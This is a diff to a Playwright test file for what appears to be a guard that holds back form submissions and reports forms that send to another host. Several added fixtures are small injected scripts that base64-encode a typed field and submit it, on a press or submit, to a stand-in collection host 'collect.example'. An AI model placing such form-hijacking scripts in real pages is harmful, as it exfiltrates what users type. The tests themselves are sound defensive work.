@@ -44,7 +44,8 @@ async function filled(html: string, act = ''): Promise<Filled> {
   const { x = 0, y = 0 } = (await page.locator('#go').boundingBox()) ?? {};
   return {
     page,
-    send: () => page.mouse.click(x + 5, y + 5),
+    // A person's press lasts for some time, in which what the page sends may leave
+    send: () => page.mouse.click(x + 5, y + 5, { delay: 100 }),
     sent: () => asked.filter((url) => url !== session.route.url),
   };
 }
@@ -55,7 +56,10 @@ async function leave(page: Page, isStill = false): Promise<void> {
 }
 const form = (buttons: string) => `<form id="f" method="post" action="/sent">${fields}${buttons}</form>`;
 const go = '<button id="go">送信</button>';
-const at = (event: string, act: string, of = 'go') => `${of}.addEventListener('${event}',()=>{${act}},{once:true})`;
+const other = (method: string, action: string) =>
+  `<form id="g" method="${method}" action="${action}"><input type="hidden" name="d" value="1"></form>`;
+const at = (event: string, act: string, of = 'go') =>
+  `${of}.addEventListener('${event}',(event)=>{${act}},{once:true})`;
 
 it.each(
   representatives(
@@ -83,8 +87,22 @@ it.each(
         at('pointerdown', "[a,b,go].forEach((each)=>each.setAttribute('form','g'))"),
       ],
       ['its method at the press', form(go), at('pointerdown', "f.method='get'")],
+      [
+        'its button for one of another form with a cipher',
+        `${form(go)}${other('get', 'https://collect.example/')}`,
+        at('pointerdown', `g.d.value=btoa(b.value);go.setAttribute('form','g')`),
+      ],
+      [
+        'itself for a script’s form with a cipher',
+        form(go),
+        at(
+          'submit',
+          `event.preventDefault();document.body.insertAdjacentHTML('beforeend','${other('post', 'https://collect.example/')}');g.d.value=btoa(b.value);g.submit()`,
+          'f',
+        ),
+      ],
     ],
-    7,
+    9,
   ),
 )('a form that exchanges %s is held back once, and that is said', async (what, html, act) => {
   const { page, send, sent } = await filled(html, act);
@@ -139,4 +157,78 @@ it('tells before the press that a form puts what is written into an address', as
   expect(await told('method="post" action="/send"')).toBeUndefined();
   expect(await told('action="#"'), 'sent by its script').toBeUndefined();
   expect(await told(''), 'sent by its script').toBeUndefined();
+});
+
+const evil = 'https://collect.example/';
+it.each(
+  representatives(
+    [
+      ['a press that has begun', form(go), at('pointerdown', 'f.requestSubmit()'), ''],
+      [
+        'a press that has begun, by another form',
+        `${form(go)}${other('post', evil)}`,
+        at('mousedown', 'g.submit()'),
+        '',
+      ],
+      ['a box that gets the focus', form(go), at('focus', 'f.requestSubmit()', 'b'), '#b'],
+      ['a press in a box', form(go), at('click', 'f.submit()', 'b'), '#b'],
+      ['a key that is typed', form(go), at('keydown', 'f.requestSubmit()', 'b'), 'b'],
+    ],
+    5,
+  ),
+)('a form that is sent at %s is held back once, and that is said', async (_, html, act, where) => {
+  const { page, send, sent } = await filled(html);
+  // The guide's own hands set the focus, too
+  await page.evaluate(act);
+  if (where === '') await send();
+  else if (where.startsWith('#')) await page.click(where, { noWaitAfter: true });
+  else await page.locator('#b').press('End');
+  await page.waitForTimeout(400);
+  expect(sent()).toEqual([]);
+  expect((await stateOf(page)).stopped?.why).toBe('submitted');
+  await send();
+  await expect.poll(() => sent().length).toBe(1);
+  await leave(page);
+});
+
+it.each(
+  representatives(
+    [
+      ['Enter in a box', form(go), '', 'Enter'],
+      ['a blank on its button', form(go), '', 'Space'],
+      [
+        'an answer that leads on',
+        form(`<select id="s" name="s"><option>1<option>2</select>${go}`),
+        at('change', 'f.submit()', 's'),
+        '',
+      ],
+    ],
+    3,
+  ),
+)('goes at once by %s', async (_, html, act, key) => {
+  const { page, sent } = await filled(html, act);
+  if (key === 'Enter') await page.locator('#b').press(key, { noWaitAfter: true });
+  else if (key) await page.locator('#go').press(key, { noWaitAfter: true });
+  else {
+    await page.focus('#s');
+    await page.keyboard.press('ArrowDown');
+  }
+  await expect.poll(sent).toEqual([`${origin}/sent`]);
+  await leave(page);
+});
+
+it('tells of a confirmation that sends to another host, and of no other form', async () => {
+  const told = async (html: string) => {
+    const page = await forms.start(session, html);
+    const { confirmsElsewhere } = await stateOf(page);
+    await page.close();
+    return confirmsElsewhere;
+  };
+  const held = '<p>佐伯 みのり</p><input type="hidden" name="n" value="佐伯 みのり"><button>送信</button>';
+  expect(await told(`<form method="post" action="${evil}">${held}</form>`)).toBe('collect.example');
+  expect(await told(`<form method="post" action="/done">${held}</form>`)).toBeUndefined();
+  expect(await told(`<form method="post" action="${evil}">${held}<input name="q"></form>`), 'asks').toBeUndefined();
+  expect(
+    await told(`<form action="${evil}"><input type="hidden" name="l" value="ja"><button>日本語</button></form>`),
+  ).toBeUndefined();
 });
